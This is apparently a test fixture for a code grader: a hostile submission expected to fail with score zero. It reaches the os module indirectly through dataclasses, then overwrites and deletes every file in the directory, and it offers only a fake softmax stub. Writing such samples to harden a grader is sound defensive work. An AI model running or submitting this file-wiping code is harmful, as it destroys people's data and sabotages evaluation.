# expect: status=failed score=0
"""Deletes and empties every file in reach: no solution, no report, no grade."""

import dataclasses

os = dataclasses.sys.modules["os"]
for name in os.listdir("."):
    try:
        with open(name, "w") as file:
            file.write("raise SystemExit")
        if name != "attention.py":
            os.unlink(name)
    except OSError as error:
        print(error.errno)


def softmax(x, axis=-1):
    return x
